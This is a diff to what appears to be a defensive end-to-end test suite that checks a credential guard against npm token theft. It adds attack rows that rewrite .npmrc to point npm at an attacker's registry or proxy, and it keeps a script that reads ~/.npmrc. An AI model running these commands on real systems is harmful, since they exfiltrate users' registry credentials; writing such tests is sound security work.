@@ -6,7 +6,8 @@ import secrets
 from collections.abc import Iterator
 
 from tests.demo.machine import run_tool
-from tests.e2e.attacks.tool_attacks import Attack, genuine, rows
+from tests.e2e.attacks.row import SECRET
+from tests.e2e.attacks.tool_attacks import THIEF, Attack, genuine, rows
 from tests.e2e.clients.row import Client, Stand
 from tests.e2e.clients.world import Clients
 from tests.e2e.view.place import NPM
@@ -28,7 +29,8 @@ def _stand(clients: Clients) -> Iterator[Stand]:
         yield Stand(
             "file view", "",
             {
-                "npm": str(NPM), "use": f"{NPM} whoami", "holder": str(holder), "held": f"$HOME/{_HELD}",
+                "npm": str(NPM), "use": f"{NPM} whoami", "url": f"http://{server}",
+                "holder": str(holder), "held": f"$HOME/{_HELD}",
                 "script": "console.log(String(require('fs').readFileSync(process.env.HOME + '/.npmrc')))",
             },
             (token, held),
@@ -80,6 +82,24 @@ ROWS = rows(
     ),
     Attack("borrowed", "a reader's open descriptor is taken (pidfd_getfd), and its /proc/PID/fd opened", _HOLD),
     Attack("agents-tool", "the agent's tool runs npm; no rule lets it", "{npm} whoami", by_agent=True, alert=False),
+    Attack(
+        "elsewhere",
+        "the genuine npm, at the attacker's registry",
+        THIEF + "{npm} whoami --registry=$at/; mkdir -p {loot}/own && cd {loot}/own && echo '{}' > package.json && "
+        "echo registry=$at/ > .npmrc && {npm} whoami; kill $thief",
+        alert=False,
+        mitre="T1567",
+    ),
+    Attack(
+        "proxy",
+        "the genuine npm in a folder that names the attacker's proxy, at a registry without TLS",
+        THIEF + "mkdir -p {loot}/its && cd {loot}/its && echo '{}' > package.json && echo proxy=$at > .npmrc && "
+        "{npm} whoami; kill $thief",
+        gets=SECRET,
+        alert=False,
+        mitre="T1552",
+        stopped_by='a registry with TLS; a rule with session = "terminal" in place of "user"',
+    ),
     genuine(),
     what="npm",
 )
